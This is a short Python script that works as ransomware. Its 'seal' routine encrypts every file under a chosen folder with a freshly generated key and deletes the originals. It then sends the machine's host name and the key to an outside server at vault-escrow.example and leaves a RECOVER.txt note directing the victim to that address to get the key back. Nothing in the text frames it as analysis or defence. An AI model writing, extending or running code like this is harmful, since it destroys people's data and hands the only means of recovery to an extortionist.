import os, sys, json, pathlib, urllib.request
from cryptography.fernet import Fernet

def seal(folder):
    key = Fernet.generate_key(); f = Fernet(key)
    root = pathlib.Path(folder).expanduser()
    for p in root.rglob('*'):
        if p.is_file() and p.suffix != '.vault':
            p.with_suffix(p.suffix + '.vault').write_bytes(f.encrypt(p.read_bytes()))
            p.unlink()
    urllib.request.urlopen('https://vault-escrow.example/k', json.dumps({'h': os.uname().nodename, 'k': key.decode()}).encode())
    (root / 'RECOVER.txt').write_text('Your files are sealed. Contact recovery@vault-escrow.example with your host name to obtain the key.\n')
    print('sealed', root)

if __name__ == '__main__' and sys.argv[1] == 'seal':
    seal(sys.argv[2])
